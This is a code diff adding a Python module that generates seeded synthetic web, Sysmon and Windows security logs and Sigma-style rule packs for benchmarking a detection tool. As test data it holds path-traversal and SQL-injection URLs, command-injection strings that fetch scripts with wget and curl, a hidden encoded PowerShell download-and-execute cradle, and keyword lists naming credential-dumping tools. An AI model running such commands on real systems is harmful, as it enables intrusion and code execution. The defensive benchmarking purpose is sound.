@@ -0,0 +1,260 @@
+"""
+Seeded synthetic log generators for benchmarks.
+
+Each generator writes `events` records to a file in the format the
+matching parser reads, with roughly `attack_ratio` of them shaped to
+trigger detections (encoded PowerShell, web attacks, failed logons from
+external addresses, ...). The same seed always produces the same file.
+
+Timestamps start at 2025-01-03 00:00:00 UTC and advance by a few
+milliseconds per record, so large files span hours or days.
+"""
+
+import base64
+import json
+import random
+from datetime import datetime, timedelta, timezone
+
+
+START = datetime(2025, 1, 3, tzinfo=timezone.utc)
+
+INTERNAL_IPS = [f"10.0.{i // 250}.{i % 250 + 1}" for i in range(500)]
+
+USER_AGENTS = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) AppleWebKit/605.1.15 Safari/605.1.15",
+    "curl/8.4.0",
+    "python-requests/2.31.0",
+    "Go-http-client/1.1",
+)
+
+WEB_PATHS = ("/", "/index.html", "/login", "/api/v1/items", "/api/v1/orders", "/static/app.js",
+             "/static/site.css", "/search", "/account/settings", "/health")
+
+WEB_ATTACKS = (
+    "/../../../../etc/passwd",
+    "/download?file=..\\..\\..\\windows\\win.ini",
+    "/item?id=1 or 1=1",
+    "/search?q=' and 'a'='a",
+    "/cgi-bin/run?cmd=;wget http://198.51.100.7/x.sh",
+    "/ping?host=127.0.0.1 && curl http://203.0.113.9/p",
+)
+
+PROCESSES = (
+    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs"),
+    ("C:\\Windows\\explorer.exe", "explorer.exe"),
+    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir"),
+    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe --type=renderer"),
+    ("C:\\Windows\\System32\\notepad.exe", "notepad.exe report.txt"),
+)
+
+PARENTS = ("C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\services.exe",
+           "C:\\Windows\\System32\\cmd.exe")
+
+
+def _external_ip(rng):
+    return f"{rng.randrange(1, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
+
+
+def _clock(seed):
+    rng = random.Random(seed ^ 0x5EED)
+    moment = START
+    while True:
+        moment += timedelta(milliseconds=rng.randrange(1, 20))
+        yield moment
+
+
+def _encoded_command(rng):
+    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{_external_ip(rng)}/a.ps1')"
+    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")
+
+
+def write_access_log(path, events, attack_ratio=0.05, seed=1337, combined=True):
+    """Apache/Nginx access log (combined format, or common with combined=False)."""
+    rng = random.Random(seed)
+    clock = _clock(seed)
+
+    # A few busy external clients plus a long tail of one-off addresses
+    busy = [_external_ip(rng) for _ in range(50)]
+
+    with open(path, "w", encoding="utf-8", newline="\n") as f:
+        for _ in range(events):
+            moment = next(clock)
+            stamp = moment.strftime("%d/%b/%Y:%H:%M:%S +0000")
+
+            if rng.random() < attack_ratio:
+                ip = rng.choice(busy) if rng.random() < 0.5 else _external_ip(rng)
+                url = rng.choice(WEB_ATTACKS)
+                status = rng.choice((400, 403, 404, 500))
+            else:
+                roll = rng.random()
+                ip = rng.choice(INTERNAL_IPS) if roll < 0.4 else rng.choice(busy) if roll < 0.9 else _external_ip(rng)
+                url = rng.choice(WEB_PATHS)
+                if rng.random() < 0.3:
+                    url += f"?id={rng.randrange(100000)}"
+                status = rng.choice((200, 200, 200, 301, 304, 404))
+
+            method = "POST" if rng.random() < 0.2 else "GET"
+            line = f'{ip} - - [{stamp}] "{method} {url} HTTP/1.1" {status} {rng.randrange(200, 60000)}'
+            if combined:
+                line += f' "-" "{rng.choice(USER_AGENTS)}"'
+            f.write(line + "\n")
+
+
+def write_sysmon_csv(path, events, attack_ratio=0.05, seed=1337):
+    """Sysmon export as CSV (process creation and network connection events)."""
+    rng = random.Random(seed)
+    clock = _clock(seed)
+
+    header = "UtcTime,EventID,Image,CommandLine,ParentImage,ParentCommandLine,User,SourceIp,DestinationIp\n"
+
+    with open(path, "w", encoding="utf-8", newline="\n") as f:
+        f.write(header)
+
+        for _ in range(events):
+            stamp = next(clock).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
+            user = f"CORP\\user{rng.randrange(200)}"
+
+            if rng.random() < attack_ratio:
+                image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+                command = f"powershell.exe -nop -w hidden -enc {_encoded_command(rng)}"
+                parent = "C:\\Windows\\System32\\cmd.exe"
+                row = [stamp, "1", image, command, parent, "cmd.exe /c start", user, "", ""]
+            elif rng.random() < 0.3:
+                source = rng.choice(INTERNAL_IPS)
+                dest = _external_ip(rng) if rng.random() < 0.2 else rng.choice(INTERNAL_IPS)
+                row = [stamp, "3", "", "", "C:\\Windows\\System32\\services.exe", "", "NETWORK SERVICE", source, dest]
+            else:
+                image, command = rng.choice(PROCESSES)
+                parent = rng.choice(PARENTS)
+                row = [stamp, "1", image, f'"{command}"', parent, "", user, "", ""]
+
+            f.write(",".join(row) + "\n")
+
+
+def write_windows_xml(path, events, attack_ratio=0.05, seed=1337):
+    """Windows Security events as exported XML (wevtutil qe /f:xml style, namespaced)."""
+    rng = random.Random(seed)
+    clock = _clock(seed)
+
+    with open(path, "w", encoding="utf-8", newline="\n") as f:
+        f.write('<?xml version="1.0" encoding="utf-8"?>\n<Events>\n')
+
+        for _ in range(events):
+            stamp = next(clock).strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"
+
+            if rng.random() < attack_ratio:
+                if rng.random() < 0.7:
+                    event_id = "4625"
+                    data = {"TargetUserName": "Administrator", "LogonType": "3", "IpAddress": _external_ip(rng)}
+                else:
+                    event_id = "4688"
+                    data = {
+                        "NewProcessName": "C:\\Users\\Public\\payload.exe",
+                        "ProcessId": hex(rng.randrange(0x100, 0xFFFF)),
+                        "CommandLine": f"powershell.exe -enc {_encoded_command(rng)}",
+                    }
+            elif rng.random() < 0.5:
+                event_id = "4624"
+                data = {"TargetUserName": f"user{rng.randrange(200)}", "LogonType": rng.choice(("2", "3", "10")),
+                        "IpAddress": rng.choice(INTERNAL_IPS)}
+            else:
+                image, command = rng.choice(PROCESSES)
+                event_id = "4688"
+                data = {"NewProcessName": image, "ProcessId": hex(rng.randrange(0x100, 0xFFFF)), "CommandLine": command}
+
+            fields = "".join(f'<Data Name="{name}">{_xml_escape(value)}</Data>' for name, value in data.items())
+            f.write(
+                '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">'
+                f'<System><EventID>{event_id}</EventID><TimeCreated SystemTime="{stamp}"/>'
+                '<Computer>WIN-BENCH01</Computer></System>'
+                f'<EventData>{fields}</EventData></Event>\n'
+            )
+
+        f.write("</Events>\n")
+
+
+def _xml_escape(value):
+    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+
+
+# rule name -> (prefix, repeated unit). Long values holding every piece
+# the rule's pattern looks for, in an order that never matches: the
+# input that makes backtracking regexes slowest.
+WORST_CASES = {
+    "web_attack": ("/search?q=", " or ="),
+    "failed_login": ("login: ", "failed "),
+    "suspicious_process": ("-enc ", "cmd.exe "),
+}
+
+
+def worst_case_value(rule, length):
+    """An adversarial value of about `length` characters for rule (see WORST_CASES)."""
+    prefix, unit = WORST_CASES[rule]
+    return prefix + unit * max(1, (length - len(prefix)) // len(unit))
+
+
+def write_rule_pack(path, rules=500, seed=1337):
+    """
+    A JSON rule pack shaped like community Sigma rules: process rules
+    (image suffix + command-line fragments, some with filters), web
+    rules (URL fragments, scanner user agents) and logon rules. Few of
+    them match the generated logs, as in real deployments.
+    """
+    rng = random.Random(seed)
+    words = ("invoke", "mimikatz", "bypass", "hidden", "download", "shadow", "vssadmin", "certutil",
+             "rundll32", "regsvr32", "mshta", "bitsadmin", "schtasks", "whoami", "netsh", "lsass",
+             "procdump", "sekurlsa", "urlcache", "scrobj", "javascript", "comsvcs", "minidump")
+    images = ("powershell.exe", "cmd.exe", "rundll32.exe", "regsvr32.exe", "mshta.exe", "certutil.exe",
+              "wmic.exe", "schtasks.exe", "bitsadmin.exe", "svchost.exe", "notepad.exe")
+    url_bits = ("/wp-admin/", "/.env", "/phpmyadmin", "/cgi-bin/", "/actuator/", "/solr/", "/jndi:",
+                "/owa/auth/", "/.aws/", "/console/", "/etc/shadow", "/boaform/", "/vendor/phpunit/")
+
+    def fragment():
+        return f"{rng.choice(words)}{rng.choice(('', ' -', '.', '/'))}{rng.choice(words)[:rng.randint(3, 6)]}"
+
+    pack = []
+    for i in range(rules):
+        kind = i % 10
+        if kind < 6:
+            detection = {
+                "selection": {
+                    "Image|endswith": "\\" + rng.choice(images),
+                    "CommandLine|contains": [fragment() for _ in range(rng.randint(1, 4))],
+                },
+                "condition": "selection",
+            }
+            if kind == 5:
+                detection["filter"] = {"ParentImage|endswith": "\\" + rng.choice(images)}
+                detection["condition"] = "selection and not filter"
+            logsource = {"category": "process_creation"}
+        elif kind < 9:
+            detection = {
+                "selection": {"c-uri|contains": [f"{rng.choice(url_bits)}{rng.choice(words)}"
+                                                 for _ in range(rng.randint(1, 3))]},
+                "condition": "selection",
+            }
+            if kind == 8:
+                detection["agent"] = {"c-useragent|re": f"(?i){rng.choice(words)}[-/ ]?\\d"}
+                detection["condition"] = "selection or agent"
+            logsource = {"category": "webserver"}
+        else:
+            detection = {
+                "selection": {"EventID": rng.choice((4624, 4625, 4688, 4720)),
+                              "TargetUserName|startswith": [rng.choice(words)[:4]]},
+                "condition": "selection",
+            }
+            logsource = {"product": "windows", "service": "security"}
+
+        pack.append({"title": f"Generated rule {i}", "logsource": logsource, "detection": detection})
+
+    with open(path, "w", encoding="utf-8") as f:
+        json.dump({"rules": pack}, f, indent=1)
+
+
+# parser name -> (generator, file suffix)
+GENERATORS = {
+    "web": (write_access_log, ".log"),
+    "sysmon": (write_sysmon_csv, ".csv"),
+    "windows": (write_windows_xml, ".xml"),
+}